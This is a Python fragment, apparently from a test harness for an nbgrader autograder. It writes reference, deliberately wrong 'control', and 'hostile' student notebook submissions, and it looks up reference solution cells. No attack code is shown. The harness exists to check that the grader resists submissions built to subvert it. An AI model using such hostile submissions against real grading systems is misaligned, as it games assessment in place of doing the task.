def submit_answers(folder: Path, lab: str, student: str, answers: dict[str, str] | None = None,
                   files: dict[str, str] | None = None) -> Path:
    """submitted/<student>/<lab>/: every notebook of the lab (see ``answered``) and ``files``."""
    target = folder / "submitted" / student / lab
    target.mkdir(parents=True, exist_ok=True)
    for name, nb in answered(folder, lab, answers).items():
        nbformat.write(nb, target / f"{name}.ipynb")
    for relative, text in (files or {}).items():
        (target / relative).parent.mkdir(parents=True, exist_ok=True)
        (target / relative).write_text(text)
    return target


def submit_control(folder: Path, hostile: Hostile) -> Path:
    """The honest wrong control: the reference answers with this exercise answered wrongly, nothing else."""
    return submit_answers(folder, hostile.lab, control_name(hostile), {hostile.exercise: broken_answer(hostile)})


def submit_hostile(folder: Path, hostile: Hostile, **context: object) -> Path:
    """submitted/<hostile_name>/<lab>/: the control with the attack, and the attack's files."""
    return submit_answers(folder, hostile.lab, hostile.student, {hostile.exercise: attack_answer(hostile, **context)},
                          hostile.files)


def exercise_notebook(folder: Path, lab: str, exercise: str) -> str:
    """The notebook of the lab that holds the exercise's solution cell."""
    for name in notebook_names(folder, lab):
        nb = json.loads((folder / "source" / lab / f"{name}.ipynb").read_text())
        if any(c["metadata"].get("nbgrader", {}).get("grade_id") == exercise for c in nb["cells"]):
            return name
    raise ValueError(f"{lab} has no exercise {exercise!r}")


def reference_solution(folder: Path, lab: str, exercise: str) -> str:
    """The exercise's reference code, from the course's source notebook."""
    nb = json.loads((folder / "source" / lab / f"{exercise_notebook(folder, lab, exercise)}.ipynb").read_text())
    return next("".join(c["source"]) for c in nb["cells"]
                if c["metadata"].get("nbgrader", {}).get("grade_id") == exercise
                and c["metadata"]["nbgrader"].get("solution"))
